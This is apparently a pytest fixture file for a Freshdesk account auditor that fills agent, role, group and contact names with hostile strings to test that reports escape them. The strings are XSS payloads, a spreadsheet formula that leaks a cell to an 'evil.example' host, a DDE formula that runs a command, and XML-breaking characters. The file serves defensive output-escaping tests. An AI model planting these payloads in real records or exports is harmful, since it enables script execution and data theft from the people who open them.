"""A small account full of hostile and non-ASCII names, analysed with a policy that exempts.

The names are what an attacker who can edit their own Freshdesk profile (or a careless
admin) could put there: HTML that would run script, spreadsheet formulas, commas,
quotes, newlines and letters outside ASCII. Every report must show them as text.
"""

from pathlib import Path

import pytest

from auditor.analysis import Analysis, analyze
from auditor.report.bundle import write_bundle
from tests.builders import (
    ACCOUNT_ADMIN,
    ADMIN,
    OLD,
    agent,
    company,
    contact,
    group,
    standard_roles,
    write_account,
)

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = '<script>alert("xss")</script>'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MIXED = 'Zoë Ångström-Łukasiewicz, "Jr"\nSecond line'
DDE = "+cmd|' /C calc'!A0"
# Texts that XML cannot hold as they are (markup, controls, NUL, non-characters, a lone
# surrogate) or that need more than ASCII: what the GraphML writers must escape alike.
XML_HOSTILE = [
    "A & B <b>\"quoted\"</b> 'single'",
    "line\r\nbreak\ttab",
    "Nul\x00Esc\x1b[31mDel\x7fNext\x85",
    "Line\u2028Separator\u2029Paragraph\ufffe\uffff",
    "Broken \ud800 Name",
    "Zoë 李小龙 😀",
]
MINUS = "-2+3"
CJK = "李小龙"
ROLE_NAME = "</style><script>alert(3)</script>"
GROUP_NAME = "Billing <b>bold</b> & co"
GROUP_QUOTED = 'Support "Tier 1", Europe'
CONTACT_NAME = "<svg onload=alert(4)>"
HOSTILE_NAMES = (IMG, SCRIPT, HYPERLINK, MIXED, DDE, MINUS, CJK)

POLICY = """\
org_domains = ["acme.example"]

[[exemptions]]
rule = "FD-STALE-002"
subject = "agent:3"
reason = "Seasonal agent, returns in December"
approved_by = "ciso@acme.example"
expires = 2027-03-31

[[exemptions]]
rule = "FD-STALE-001"
subject = "agent:7"
reason = "Account kept for legal hold"
approved_by = "legal@acme.example"
expires = 2026-01-31

[[exemptions]]
rule = "FD-STALE-002"
subject = "agent:999"
reason = "Left over from last year"
approved_by = "ciso@acme.example"
expires = 2027-06-30
"""


def write_hostile_account(directory: Path) -> Path:
    return write_account(
        directory,
        agents=[
            agent(1, name=IMG, email="img@acme.example", role_ids=[ADMIN], group_ids=[10]),
            agent(2, name=SCRIPT, email="script@acme.example", scope=1, group_ids=[10, 11]),
            agent(3, name=HYPERLINK, email="formula@acme.example", last_login_at=OLD),
            agent(4, name=MIXED, email="zoe@acme.example", role_ids=[ACCOUNT_ADMIN, 99]),
            agent(5, name=DDE, email="dde@acme.example", group_ids=[11]),
            agent(6, name=MINUS, email="minus@acme.example", role_ids=[20]),
            agent(8, name=CJK, email="li@acme.example", group_ids=[11]),
        ],
        inactive_agents=[
            agent(
                7, name="Former Admin", email="former@acme.example", role_ids=[ADMIN], active=False
            )
        ],
        roles=standard_roles((20, ROLE_NAME)),
        groups=[
            group(10, GROUP_NAME, agent_ids=[1, 2]),
            group(11, GROUP_QUOTED, agent_ids=[2, 5, 8]),
        ],
        contacts=[
            contact(
                1,
                name=CONTACT_NAME,
                email="buyer@reseller.example",
                company_id=1,
                view_all_tickets=True,
            )
        ],
        companies=[company(1, "Customer & Co", domains=["customer.example"])],
    )


@pytest.fixture
def policy_file(tmp_path: Path) -> Path:
    path = tmp_path / "policy.toml"
    path.write_text(POLICY, encoding="utf-8")
    return path


@pytest.fixture
def hostile_analysis(tmp_path: Path, policy_file: Path) -> Analysis:
    """The hostile account with its snapshot inside the bundle folder, as `audit` keeps it."""
    snapshot = write_hostile_account(tmp_path / "bundle" / "snapshot")
    return analyze(snapshot, policy_path=policy_file)


@pytest.fixture
def hostile_bundle(tmp_path: Path, hostile_analysis: Analysis) -> Path:
    out = tmp_path / "bundle"
    write_bundle(hostile_analysis, out)
    return out
